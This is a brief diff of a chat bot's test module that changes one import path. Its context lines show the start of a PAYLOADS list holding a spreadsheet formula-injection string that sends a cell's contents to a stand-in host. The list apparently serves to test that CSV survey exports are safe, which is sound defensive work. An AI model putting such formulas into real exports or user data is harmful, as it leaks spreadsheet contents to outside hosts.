@@ -21,7 +21,7 @@ from bot.storage.db import Database
 from bot.surveys.export import export_csv
 from bot.surveys.loader import load_form
 from tests.driver import ChatDriver
-from tests.handlers.test_onboarding import register
+from tests.handlers.people.test_onboarding import register
 
 PAYLOADS = [
     '=HYPERLINK("http://x?x="&A1,"click")',
